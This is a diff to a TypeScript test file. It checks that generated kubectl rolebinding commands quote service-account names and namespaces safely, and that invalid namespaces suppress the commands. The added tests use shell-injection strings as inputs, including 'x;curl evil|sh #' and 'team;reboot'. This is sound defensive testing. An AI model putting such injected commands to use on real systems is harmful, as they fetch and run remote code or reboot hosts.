@@ -23,19 +23,28 @@ describe("the commands that give a role", () => {
   ])("give %s to a shell as one word", (user, name, subject) => {
     expect(bindCommands("recif-view", user).one).toBe(`kubectl create rolebinding ${name} --clusterrole=recif-view ${subject} --namespace=NAMESPACE`);
   });
+
+  it("give the parts of a service account and a namespace to a shell as one word each", () => {
+    expect(bindCommands("recif-view", "system:serviceaccount:team;reboot:ada").one).toBe(
+      "kubectl create rolebinding recif-view-team-reboot-ada --clusterrole=recif-view --serviceaccount='team;reboot:ada' --namespace='team;reboot'",
+    );
+    expect(bindCommands("recif-view", "ada", "x;curl evil|sh #").one).toMatch(/ --user=ada --namespace='x;curl evil\|sh #'$/);
+  });
 });
 
 it("a page that the user may not see shows the commands, and no other failure does", () => {
-  const shown = (status: number, user: string | null): string =>
+  const shown = (status: number, user: string | null, namespace = "shop"): string =>
     renderToStaticMarkup(
       createElement(
         SessionContext,
         { value: { me: { auth: "kubernetes", user }, signOut: () => undefined } },
-        createElement(Failure, { error: new ApiError(status, "you cannot"), what: "this Agent", namespace: "shop" }),
+        createElement(Failure, { error: new ApiError(status, "you cannot"), what: "this Agent", namespace }),
       ),
     ).replace(/<[^>]+>/g, "");
   expect(shown(403, "ada")).toContain("kubectl create rolebinding recif-view-ada --clusterrole=recif-view --user=ada --namespace=shop");
   expect(shown(403, "ada")).toContain("kubectl create clusterrolebinding recif-view-ada");
   expect(shown(404, "ada")).not.toContain("kubectl");
   expect(shown(403, null)).not.toContain("kubectl");
+  expect(shown(403, "ada", "a".repeat(63))).toContain(`--namespace=${"a".repeat(63)}`);
+  for (const namespace of ["x;curl evil|sh #", "Shop", "shop-", "-n", "", "a".repeat(64)]) expect(shown(403, "ada", namespace)).not.toContain("kubectl");
 });
